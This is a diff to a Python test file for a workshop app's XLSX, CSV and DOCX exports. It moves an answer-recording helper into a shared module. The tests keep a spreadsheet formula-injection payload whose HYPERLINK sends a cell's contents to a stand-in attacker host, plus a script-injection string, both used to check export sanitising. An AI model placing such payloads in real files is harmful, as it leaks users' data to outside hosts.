@@ -4,7 +4,6 @@ as XLSX and CSV — parsed back and checked, hostile text included."""
 import csv
 import datetime as dt
 import io
-import uuid
 from html import unescape
 from pathlib import Path
 
@@ -15,29 +14,13 @@ from docx import Document
 from openpyxl import load_workbook
 
 from live import sessions
-from live.answers import Submission, record_answers
 from live.models import ActivityRun, Response
 from tests.conftest import step_titled
+from tests.live import answer
 from workshops.duplication import duplicate_step
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")'
 SCRIPT = "<script>alert('synthèse')</script>"
-
-
-def answer(participant, step, data: dict):
-    [outcome] = record_answers(
-        [
-            Submission(
-                client_id=str(uuid.uuid4()),
-                session_id=participant.session_id,
-                participant_id=participant.pk,
-                activity_id=step.activity_id,
-                answer=data,
-            )
-        ]
-    )
-    assert outcome.ok, outcome.error
-    return outcome.response
 
 
 @pytest.fixture
